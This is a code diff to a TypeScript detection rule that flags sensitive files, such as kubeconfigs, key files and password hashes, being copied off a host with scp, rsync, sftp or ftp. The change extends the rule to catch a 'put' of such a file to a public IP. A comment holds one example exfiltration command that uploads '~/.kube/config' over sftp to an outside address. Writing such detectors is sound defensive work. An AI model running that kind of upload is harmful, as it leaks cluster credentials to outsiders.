@@ -84,10 +84,14 @@ const sensitiveFileSent: Rule = {
     if (fed) return { file: excerpt(s.text, SENSITIVE_FILE) ?? '', channel: 'ssh' };
     // Copying a kubeconfig to a laptop with scp is the K3s docs' advice; copying a password hash or key off is not.
     // The key given to `scp -i` or `rsync -e 'ssh -i ...'` authenticates the copy; it is not what is copied.
-    for (const inv of invocationsOf(s, 'scp', 'rsync', 'sftp', 'sshfs')) {
+    for (const inv of invocationsOf(s, 'scp', 'rsync', 'sftp', 'sshfs', 'ftp')) {
       const operands = inv.args.filter((a, i) => !/^-[ieoFP]$/.test(inv.args[i - 1] ?? '') && !a.startsWith('-'));
       const copied = operands.find((a) => SECRET_FILE.test(a));
       if (copied !== undefined) return { file: copied, channel: inv.program };
+      // `sftp u@203.0.113.9 <<< 'put ~/.kube/config'`: a transfer command fed to the client, to an address on the internet.
+      const put = /^s?ftp$/.test(inv.program) ? /\bput\s+["']?(\S+?)["']?(?:\s|$)/.exec(s.text)?.[1] : undefined;
+      const server = operands.map((a) => /^(?:[\w.-]+@)?(\d{1,3}(?:\.\d{1,3}){3})$/.exec(a)?.[1]).find((h) => h !== undefined);
+      if (put !== undefined && SENSITIVE_FILE.test(put) && (SECRET_FILE.test(put) || (server !== undefined && isPublicIp(server)))) return { file: put, channel: inv.program, ...(server ? { destination: server } : {}) };
       // A kubeconfig or the account database pushed to an address on the internet, not to the admin's laptop or NAS.
       const destination = remoteCopyHost(operands[operands.length - 1] ?? '');
       const pushed = operands.slice(0, -1).find((a) => SENSITIVE_FILE.test(a) && remoteCopyHost(a) === undefined);
